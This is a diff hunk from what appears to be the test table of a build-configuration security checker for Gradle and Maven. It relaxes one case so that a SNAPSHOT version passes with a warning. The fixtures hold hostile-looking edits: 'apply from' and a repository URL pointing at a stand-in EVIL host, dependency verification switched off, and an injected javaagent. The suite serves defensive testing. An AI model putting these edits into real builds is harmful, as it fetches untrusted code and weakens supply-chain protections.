@@ -656,7 +656,7 @@ fmt("gradle and maven settings", {"build.gradle": SCRIPT, GP: "org.gradle.jvmarg
     ("script from elsewhere", [("build.gradle", "dependencies", f"apply from: '{EVIL}/x.gradle'\ndependencies")], ["registry-changed"]),
     ("version that moves", [("build.gradle", "left:1.0", "left:1.+")], ["protection-weakened"]),
     ("an address put together", [("build.gradle", "dependencies", f"def base = '{EVIL}'\nrepositories {{ maven {{ url \"$base/m2\" }} }}\ndependencies")], ["registry-changed"]),
-    ("a snapshot of another's", [(POM, "<version>1.0", "<version>1.1-SNAPSHOT")], ["protection-weakened"]),
+    ("a snapshot of another's, a warning", [(POM, "<version>1.0", "<version>1.1-SNAPSHOT")], PASS),
     ("verification off", [(GP, None, "org.gradle.dependency.verification=off\n")], ["protection-weakened"]),
     ("agent", [(GP, "-Xmx1g", "-Xmx1g -javaagent:lib/x.jar")], ["protection-weakened"]),
     ("other settings", [(MC, None, "-B\n-sci/other.xml\n")], ["protection-weakened"]),
